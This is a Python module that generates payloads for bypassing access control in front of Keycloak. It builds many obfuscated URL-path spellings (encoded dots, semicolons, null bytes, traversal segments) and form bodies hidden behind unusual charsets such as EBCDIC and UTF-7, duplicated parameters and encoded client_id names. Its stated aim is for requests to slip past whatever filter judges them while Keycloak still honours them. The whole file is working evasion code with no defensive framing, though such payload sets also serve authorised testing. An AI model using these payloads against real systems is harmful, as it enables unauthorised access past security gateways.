"""Spellings in which a request may hide from whoever judges it, and still be what Keycloak takes it for."""

# What may stand between two segments, after one, or before one.
BETWEEN = ["", ".", "%2e", ";a", "%2F", ".;x", "x/..", "x/%2e%2e", "x/..;a", "..;", "%20", "%00", "%09", "\\", "%5C"]
AFTER = [";", ";a=b", "%3Ba=b", ".", "%2e", "%20", "+", "%00", "%09", "%0a", ".json", "%E2%80%8B", "/", "//", "%2F", "%5C", "?x=", "#", "%23", "%3F", ",", "~", "$", "!", "%C0%AF", "%u002f"]
BEFORE = [";a", "./", "%2e/", "%20", "%09", ".", ";a/", "%2e%2e/"]


def paths(path):
    """A path in some hundred spellings; some servers take each for the path."""
    segments = path.strip("/").split("/")
    found = {"//host.example" + path, "/\\host.example" + path, "http://host.example" + path, "*" + path}
    for at in range(len(segments) + 1):
        found.update("/" + "/".join([*segments[:at], other, *segments[at:]]) for other in BETWEEN)
    for at, segment in enumerate(segments):
        once = "".join(f"%{ord(letter):02x}" for letter in segment)
        others = [segment + after for after in AFTER] + [before + segment for before in BEFORE]
        others += [once, once.replace("%", "%25"), f"%{ord(segment[0]):02X}{segment[1:]}", segment.upper(), segment.capitalize()]
        found.update("/" + "/".join([*segments[:at], other, *segments[at + 1 :]]) for other in others)
    return sorted(found - {path})


# Python's name of a character set, and Java's: Keycloak decodes escapes in the one that the media type says.
CHARACTER_SETS = [("cp037", "IBM037"), ("cp500", "IBM500"), ("cp1140", "IBM01140")]
CHARACTER_SETS += [(name, name) for name in ("utf-16", "utf-16le", "utf-16be", "utf-32", "utf-7", "cp1252", "iso-8859-1", "shift_jis")]
FORM = "application/x-www-form-urlencoded"


def forms(client, rest):
    """Media types and bodies, in which Keycloak may find the client's id and others may not."""
    found = []
    for python, java in CHARACTER_SETS:

        def escaped(text, by=python):
            return "".join(f"%{octet:02X}" for octet in text.encode(by))

        for kind in (f"{FORM}; charset={java}", f'{FORM};charset="{java}"', f"{FORM}; CHARSET={java}", f"{FORM}; x=y; charset={java}", f"{FORM}, x; charset={java}"):
            found.append((kind, f"client_id={escaped(client)}&{rest}"))
            found.append((kind, f"client_id=first_portal&client_id={escaped(client)}&{rest}"))
            found.append((kind, f"{escaped('client_id')}={escaped(client)}&{rest}"))
            found.append((kind, f"x=y&client_id={escaped(client)}&{rest}"))
            found.append((kind, f"client_id={client}&{rest}".encode(python).decode("latin-1")))
    plain = f"client_id={client}&{rest}"
    found += [(kind, plain) for kind in ("text/plain", "*/*", "application/*", f"{FORM}\t", FORM.upper(), f"{FORM};", "application/json", "")]
    bodies = [
        plain.replace("&", ";"),
        f"client_id=first_portal&{plain}",
        f"{plain}&client_id=first_portal",
        f"\r\n{plain}",
        plain.replace("client_id", "%63lient_id"),
        plain.replace("client_id", "client_id%00"),
        plain.replace("tpc_", "%74pc_"),
        plain.replace("tpc_", "tpc%5F"),
        plain.replace("=tpc_", "==tpc_"),
        plain.replace("=tpc_", "=+tpc_"),
    ]
    return found + [(FORM, body) for body in bodies]
